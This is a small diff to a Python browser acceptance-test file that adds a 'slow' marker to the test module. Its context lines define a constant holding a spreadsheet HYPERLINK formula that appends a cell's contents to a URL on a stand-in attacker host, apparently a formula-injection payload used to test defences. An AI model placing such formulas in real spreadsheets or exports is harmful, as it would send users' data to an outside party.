@@ -20,7 +20,7 @@ from tests.acceptance.conftest import Opens
 from tests.acceptance.screens import id_of, kept, post, review, status_of
 from tests.faults.system import TERMINAL, System, long_scan
 
-pytestmark = [pytest.mark.browser, pytest.mark.timeout(240)]
+pytestmark = [pytest.mark.browser, pytest.mark.timeout(240), pytest.mark.slow]
 TOASTED = "[data-testid='stToast']"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Blake Consulting")'
 
